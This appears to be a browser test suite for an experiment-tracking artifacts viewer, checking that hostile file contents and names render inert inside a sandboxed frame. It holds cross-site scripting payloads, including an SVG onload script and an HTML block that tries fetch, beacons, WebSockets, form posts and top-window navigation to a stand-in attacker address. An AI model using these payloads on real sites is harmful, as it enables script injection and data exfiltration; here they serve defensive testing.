"""Forty hostile texts as names and as contents of files: none of them runs, and no other host is asked."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.payloads import PAYLOADS
from trackbook.runs.artifacts import log_text
from trackbook.stores.base import NewRun, Store
from trackbook.widgets.artifacts import ArtifactsPanel

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("comms")]
_ALL = "\n\n".join(PAYLOADS)
_CELL = {"cell_type": "code", "source": _ALL, "execution_count": 1, "outputs": [
    {"output_type": "display_data", "data": {"text/html": _ALL}},
    {"output_type": "display_data", "data": {"image/svg+xml": _ALL}},
    {"output_type": "stream", "name": "stdout", "text": _ALL},
    {"output_type": "display_data", "data": {"text/markdown": _ALL}},
]}  # fmt: skip
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=1</script>{_ALL}</svg>'
CONTENTS = {
    **dict.fromkeys(("a.txt", "a.py", "a.md", "a.html", "a.png", "a.pdf", "a.mp4", "a.wav"), _ALL),
    **dict.fromkeys(("a.parquet", "m.plotly.json"), _ALL),
    "a.csv": "a,b\n" + "\n".join(json.dumps(payload) for payload in PAYLOADS),
    "a.json": json.dumps({payload: [payload] for payload in PAYLOADS}),
    "a.svg": _SVG,
    "a.ipynb": json.dumps({"cells": [_CELL, {"cell_type": "markdown", "source": _ALL}]}),
    "t.json": json.dumps({"columns": list(PAYLOADS), "data": [list(PAYLOADS)]}),
    "m/MLmodel": json.dumps({"flavors": {payload: {"x": payload} for payload in PAYLOADS}, "utc_time_created": _ALL}),
}


def settle(on: Any, rounds: int = 5) -> None:
    for _ in range(rounds):
        on.carry()
        on.page.evaluate("() => new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")


class Watch:
    """What a page did that it must not do."""

    def __init__(self, page: Any) -> None:
        self.page, self.asked, self.dialogs = page, list[str](), list[str]()
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("dialog", self._dismiss)

    def _dismiss(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def nothing_happened(self) -> bool:
        asked = [url for url in self.asked if not url.startswith(("blob:", "data:", "about:"))]
        assert (asked, self.dialogs) == ([], [])
        assert [frame.evaluate("window.pwned") for frame in self.page.frames[:1]] == [None]
        return True


def test_contents_are_shown_and_do_nothing(stage: Callable[..., Any], file_store: Store) -> None:
    run = file_store.create_run(NewRun("0", PAYLOADS[4]))
    for name, content in CONTENTS.items():
        log_text(file_store, run, content, name)
    on = stage()
    watch = Watch(on.page)
    panel = ArtifactsPanel(file_store, [run.info.run_id])
    on.open(panel)
    for name in [*CONTENTS, "m"]:
        panel.view = {**panel.view, "path": name}
        settle(on)
        kind = on.page.locator(".art-card").first.get_attribute("data-kind")
        assert kind is not None, name
        assert on.page.locator(".art-body > *").count() > 0, name
        on.page.wait_for_timeout(60)  # time for a handler, were there one
        assert watch.nothing_happened()
    assert on.page.locator("img[src=x]").count() == 0


def test_names_of_files_do_nothing(stage: Callable[..., Any], file_store: Store) -> None:
    run = file_store.create_run(NewRun("0", "run"))
    log_text(file_store, run, "x", "first.txt")
    root = Path(str(run.info.artifact_uri))
    for place, payload in enumerate(PAYLOADS):
        name = re.sub(r"[\\:#?;%\x00-\x1f/]", "_", payload)[:120]
        root.joinpath(f"{place:02d} {name}.txt").write_text("word")
    on = stage()
    watch = Watch(on.page)
    panel = ArtifactsPanel(file_store, [run.info.run_id])
    on.open(panel)
    settle(on)
    paths = [entry["path"] for entry in panel.tree[""]["entries"]]
    assert len(paths) == len(PAYLOADS) + 1
    for path in [*paths[1::6], "first.txt"]:  # all names are in the tree, some of them in a card too
        panel.view = {**panel.view, "path": path}
        settle(on, 2)
    assert on.page.locator(".art-text").text_content() == "x"
    assert "&lt;" in panel.static_table()
    assert "<img" not in panel.static_table()
    assert watch.nothing_happened()


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server that keeps what it is asked for, as an attacker's would."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815  # the name that the library calls

        def log_message(self, format: str, *args: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads, server.block_on_close = True, False  # a browser may connect and say nothing
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    thread.join()
    server.server_close()


ATTACKS = """
<img src="AWAY/img"><link rel=stylesheet href="AWAY/css">
<style>@import "AWAY/import"; body { background: url(AWAY/bg) }</style>
<iframe src="AWAY/frame"></iframe><object data="AWAY/object"></object><video src="AWAY/video"></video>
<a id=a href="AWAY/link">x</a><form id=f action="AWAY/form" method=post></form>
<meta http-equiv=refresh content="0;url=AWAY/refresh"><base href="AWAY/"><script src="AWAY/script"></script>
<script>
window.top.postMessage("ran", "*");
const frame = document.createElement("iframe"), asker = new XMLHttpRequest();
const tries = [
  () => { parent.parent.pwned = 1; },
  () => { top.document.title = "pwned"; },
  () => { top.location = "AWAY/top"; },
  () => { parent.location = "AWAY/parent"; },
  () => fetch("AWAY/fetch"),
  () => navigator.sendBeacon("AWAY/beacon", "x"),
  () => { new WebSocket("AWAY/ws".replace("http", "ws")); },
  () => { new EventSource("AWAY/events"); },
  () => { new Image().src = "AWAY/image"; },
  () => document.getElementById("f").submit(),
  () => document.getElementById("a").click(),
  () => { window.open("AWAY/open"); },
  () => import("AWAY/import.js"),
  () => { new Worker("AWAY/worker"); },
  () => { document.cookie = "a=1"; },
  () => { localStorage.x = 1; },
  () => { frame.src = "AWAY/frame2"; document.body.append(frame); },
  () => { asker.open("GET", "AWAY/xhr"); asker.send(); },
  () => alert(1),
  () => { location = "AWAY/location"; },
];
for (const attempt of tries) { try { attempt()?.catch?.(() => {}); } catch {} }
</script>
"""


@pytest.mark.parametrize("scripts", [False, True])
def test_pages_reach_no_host_and_not_this_page(
    stage: Callable[..., Any], file_store: Store, listener: tuple[str, list[str]], scripts: bool
) -> None:
    address, asked = listener
    run = file_store.create_run(NewRun("0", "run"))
    log_text(file_store, run, ATTACKS.replace("AWAY", address), "a.html")
    on = stage()
    watch = Watch(on.page)
    on.page.evaluate("window.heard = []; window.addEventListener('message', (event) => window.heard.push(event.data))")
    on.open(ArtifactsPanel(file_store, [run.info.run_id], path="a.html"))
    settle(on)
    if scripts:
        on.page.get_by_role("button", name="Run its scripts").click()
        on.page.wait_for_function("window.heard.includes('ran')")
    on.page.wait_for_timeout(800)  # for a request that is on its way
    assert on.page.evaluate("[window.heard.includes('ran'), window.pwned ?? null, document.title]") == [
        scripts,
        None,
        "",
    ]
    assert (asked, watch.dialogs) == ([], [])
    if not scripts:
        assert watch.nothing_happened()
    frame = on.page.locator("iframe.art-frame")
    assert frame.get_attribute("sandbox") == ("allow-scripts" if scripts else "")
